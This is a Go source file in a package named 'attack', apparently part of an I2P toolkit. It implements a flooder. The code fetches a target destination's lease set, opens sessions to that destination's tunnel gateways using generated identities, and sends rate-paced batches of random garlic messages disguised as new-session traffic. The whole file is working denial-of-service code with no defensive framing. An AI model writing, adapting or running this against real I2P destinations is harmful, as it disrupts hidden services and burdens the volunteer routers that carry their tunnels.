package attack

import (
	"context"
	"crypto/rand"
	"errors"
	mathrand "math/rand/v2"
	"sync"
	"sync/atomic"
	"time"

	"i2ptoolkit/pkg/i2np"
	"i2ptoolkit/pkg/i2p"
	"i2ptoolkit/pkg/leaseset"
	"i2ptoolkit/pkg/routerinfo"
)

// Junk is messages that look like those of new sessions, for a destination: they are
// given to the gateways of its tunnels, as everybody's are.
type Junk struct {
	Dial dialFunc
	Rate float64 // messages a second
	// Leases finds the destination's, and Router a gateway.
	Leases func(context.Context) ([]leaseset.Lease, error)
	Router func(i2p.Hash) *routerinfo.RouterInfo
	counts

	leases   atomic.Pointer[[]leaseset.Lease]
	mu       sync.Mutex
	sessions map[i2p.Hash]*Session
}

const (
	junkLen   = 128
	junkBatch = 16 // messages in one frame
)

// Run is Attack's.
func (j *Junk) Run(ctx context.Context) {
	j.sessions = make(map[i2p.Hash]*Session)
	var wg sync.WaitGroup
	wg.Go(func() {
		again(ctx, 2*time.Second, func() {
			leases, err := j.Leases(ctx)
			if err == nil {
				j.leases.Store(&leases)
			}
			j.outcome("lease sets", err)
		})
	})
	pace(ctx, j.Rate/junkBatch, 8, func() { j.outcome("batches", j.send(ctx)) })
	wg.Wait()
	j.mu.Lock()
	defer j.mu.Unlock()
	for _, s := range j.sessions {
		s.Close()
	}
}

var errNoLease = errors.New("attack: no lease")

// send gives one gateway a batch.
func (j *Junk) send(ctx context.Context) error {
	leases := j.leases.Load()
	if leases == nil || len(*leases) == 0 {
		return errNoLease
	}
	lease := (*leases)[mathrand.IntN(len(*leases))]
	s, err := j.session(ctx, lease.Gateway)
	if err != nil {
		return err
	}
	var batch []i2np.Message
	for range junkBatch {
		junk := make([]byte, junkLen)
		rand.Read(junk)
		garlic := message(i2np.GarlicType, mathrand.Uint32(), i2np.AppendGarlic(nil, junk))
		batch = append(batch, message(i2np.TunnelGatewayType, mathrand.Uint32(), i2np.AppendTunnelGateway(nil, lease.TunnelID, garlic)))
	}
	if err := s.Send(batch...); err != nil {
		j.forget(lease.Gateway, s)
		return err
	}
	j.add("messages", junkBatch)
	return nil
}

// session is that with a gateway.
func (j *Junk) session(ctx context.Context, gateway i2p.Hash) (*Session, error) {
	j.mu.Lock()
	defer j.mu.Unlock()
	if s := j.sessions[gateway]; s != nil {
		return s, nil
	}
	ri := j.Router(gateway)
	if ri == nil {
		return nil, errNoLease
	}
	id, err := NewIdentity(nil, "LR")
	if err != nil {
		return nil, err
	}
	s, err := OpenSession(ctx, j.Dial, id, ri, false)
	if err != nil {
		return nil, err
	}
	j.sessions[gateway] = s
	go func() {
		s.Listen(ctx, func(i2np.Message) {})
		j.forget(gateway, s)
	}()
	return s, nil
}

func (j *Junk) forget(gateway i2p.Hash, s *Session) {
	j.mu.Lock()
	defer j.mu.Unlock()
	if j.sessions[gateway] == s {
		delete(j.sessions, gateway)
	}
	s.Close()
}
